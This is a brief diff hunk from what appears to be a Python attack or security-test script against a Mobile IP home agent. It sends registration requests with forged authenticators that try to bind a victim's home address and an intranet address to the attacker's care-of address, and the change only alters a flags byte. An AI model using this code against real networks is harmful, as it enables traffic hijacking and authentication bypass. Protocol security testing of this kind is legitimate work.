@@ -485,7 +485,7 @@ udp.bind((atk, 0))
 # a registration binding the x-HoA to the attacker (it knows the SPI, not the key), and one for an
 # intranet home address at the x-HA
 for home, spi in ((x_hoa, 1000), ("10.1.1.100", 1001)):
-    req = RegistrationRequest(0x04, 600, home, x_ha, atk, ident).encode()
+    req = RegistrationRequest(0x20, 600, home, x_ha, atk, ident).encode()
     udp.sendto(append_auth(req, EXT_MN_HA_AUTH, spi, wrong), (x_ha, 434))
 
 def ip_udp(src, dst, payload):
